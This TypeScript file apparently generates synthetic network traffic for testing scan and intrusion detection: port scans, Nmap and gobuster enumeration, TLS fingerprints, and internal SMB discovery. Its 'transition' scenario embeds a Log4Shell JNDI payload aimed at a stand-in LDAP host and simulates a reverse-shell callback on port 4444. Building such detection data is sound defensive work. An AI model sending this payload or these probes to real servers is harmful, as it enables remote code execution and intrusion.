import { outsider, publicServer, server, workstation } from './made-up-network.ts';
import { after, MINUTE, SECOND } from './rhythm.ts';
import { ATTACKER, network, probe, somePorts, TAKEN, type ScanWriter } from './scan-stage.ts';

/** Scans that go on above the transport: services asked what they are, names tried, logins, and what follows. */
export const ENUMERATION_SCANS = {
  'service-enumeration': (stage) => {
    const destination = server(3);
    let at = stage.begin;
    for (const port of somePorts(stage.dice, 60)) {
      const open = [22, 80, 443].includes(port);
      probe(stage, at, TAKEN, destination, port, open ? 'half-open' : 'refused');
      at = after(at, 3000);
    }
    at = after(at, 2 * SECOND);
    for (let n = 0; n < 6; n += 1) {
      const flow = stage.tape.tcp(after(at, n * 0.4 * SECOND), TAKEN, destination, 22, 'closed', {
        service: 'ssh',
        sent: 30,
        received: 40,
        duration: 0.05,
      });
      stage.tape.app(flow, {
        service: 'ssh',
        agent: 'SSH-2.0-Nmap-SSH2-Hostkey',
        hassh: `b12d2871a1189eff20364cf5333619e${n}`,
        accepted: false,
      });
    }
    const targets = [
      '/',
      '/nice%20ports%2C/Tri%6Eity.txt%2ebak',
      '/nmaplowercheck1763798400',
      '/robots.txt',
      '/.git/HEAD',
      '/favicon.ico',
      '/sdk',
      '/evox/about',
      '/HNAP1',
      '/manager/html',
    ];
    for (const [n, target] of targets.entries()) {
      const flow = stage.tape.tcp(after(at, (3 + n * 0.1) * SECOND), TAKEN, destination, 80, 'closed', {
        service: 'http',
        duration: 0.03,
        sent: 160,
        received: 400,
      });
      stage.tape.app(flow, {
        service: 'http',
        action: n % 4 === 3 ? 'OPTIONS' : 'GET',
        name: destination,
        target,
        agent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
        status: n === 0 ? '200' : '404',
        accepted: true,
      });
    }
    for (let n = 0; n < 14; n += 1) {
      const flow = stage.tape.tcp(
        after(at, (5 + n * 0.2) * SECOND),
        TAKEN,
        destination,
        443,
        'reset-by-source',
        { service: 'tls', duration: 0.04, sent: 200, received: 100 },
      );
      stage.tape.app(flow, {
        service: 'tls',
        ja4: `t1${n % 4}i${10 + n}0400_${(0xabc0 + n).toString(16)}00000000_000000000000`,
        accepted: n % 3 === 0,
        status: n % 3 === 0 ? '' : 'handshake_failure',
      });
    }
    return { families: ['service-enumeration'], shapes: ['vertical', 'single'] };
  },

  'request-enumeration': (stage) => {
    for (let n = 0; n < 800; n += 1) {
      const flow = stage.tape.tcp(after(stage.begin, n * 60_000), ATTACKER, publicServer(0), 80, 'closed', {
        service: 'http',
        duration: 0.05,
        sent: 200,
        received: 500,
      });
      stage.probes.push(flow);
      stage.tape.app(flow, {
        service: 'http',
        action: 'GET',
        name: 'www0.corp.example',
        target: `/${stage.dice.int(1, 1e9).toString(36)}`,
        agent: 'gobuster/3.8',
        status: n % 100 === 7 ? '200' : '404',
        accepted: true,
      });
    }
    return { families: ['service-enumeration', 'application-fingerprint'], shapes: ['single'] };
  },

  'one-client-many-servers': (stage) => {
    for (const [n, destination] of network('203.0.113', 1, 120).entries()) {
      const open = n % 3 === 0;
      const at = after(stage.begin, n * 0.5 * SECOND);
      if (!open) {
        probe(stage, at, ATTACKER, destination, 443, 'refused');
        continue;
      }
      const flow = stage.tape.tcp(at, ATTACKER, destination, 443, 'reset-by-source', {
        service: 'tls',
        duration: 0.05,
        sent: 250,
        received: 3000,
      });
      stage.probes.push(flow);
      stage.tape.app(flow, {
        service: 'tls',
        ja4: 't13i1909h1_9dc949149365_97f8aa674fd9',
        ja3: '473cd7cb9faa642487833865d516e578',
        accepted: true,
      });
    }
    return { families: ['application-fingerprint', 'fast-fan-out'], shapes: ['horizontal'] };
  },

  'internal-discovery': (stage) => {
    const hosts = [
      ...Array.from({ length: 50 }, (_, n) => workstation(n)),
      ...Array.from({ length: 12 }, (_, n) => server(n)),
    ];
    for (const [n, destination] of hosts.entries()) {
      if (destination === TAKEN) continue;
      for (const [place, port] of [445, 135, 3389, 5985].entries()) {
        const at = after(stage.begin, n * 9 * SECOND + place * SECOND);
        const flow = probe(stage, at, TAKEN, destination, port, 'closed');
        if (port === 445)
          stage.tape.app(flow, {
            service: 'smb',
            action: 'TREE_CONNECT',
            name: String.raw`\\${destination}\IPC$`,
            accepted: true,
          });
      }
    }
    return { families: ['internal-discovery'], shapes: ['block', 'horizontal', 'strobe'] };
  },

  transition: (stage) => {
    const destination = publicServer(8);
    for (const [n, port] of somePorts(stage.dice, 120).entries())
      probe(
        stage,
        after(stage.begin, n * 20_000),
        ATTACKER,
        destination,
        port,
        port === 8080 ? 'half-open' : 'refused',
      );
    let at = after(stage.begin, 5 * MINUTE);
    for (const [n, target] of ['/', '/manager/html', '/login', '/actuator/env'].entries()) {
      const flow = stage.tape.tcp(after(at, n * SECOND), ATTACKER, destination, 8080, 'closed', {
        service: 'http',
      });
      stage.tape.app(flow, {
        service: 'http',
        action: 'GET',
        name: destination,
        target,
        agent: 'python-requests/2.32',
        status: n === 0 ? '200' : '404',
        accepted: true,
      });
    }
    at = after(at, 10 * MINUTE);
    const hit = stage.tape.tcp(at, ATTACKER, destination, 8080, 'closed', { service: 'http' });
    stage.tape.app(hit, { service: 'http', action: 'POST', name: destination, target: '/%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.9%2Fa%7D', agent: '${jndi:ldap://192.0.2.9/a}', status: '500', accepted: true }); // prettier-ignore
    stage.tape.alert(hit, {
      signature: 'ET EXPLOIT Apache log4j RCE Attempt',
      signatureId: 2_034_647,
      category: 'Attempted Administrator Privilege Gain',
      severity: 1,
    });
    stage.tape.tcp(after(at, 4 * SECOND), destination, ATTACKER, 4444, 'open', {
      duration: 900,
      sent: 90_000,
      received: 4000,
    });
    stage.tape.tcp(after(at, 30 * SECOND), destination, outsider(99_999), 80, 'closed', { service: 'http' });
    return { families: ['fast-fan-out'], shapes: ['vertical'], entered: destination };
  },
} satisfies Readonly<Record<string, ScanWriter>>;
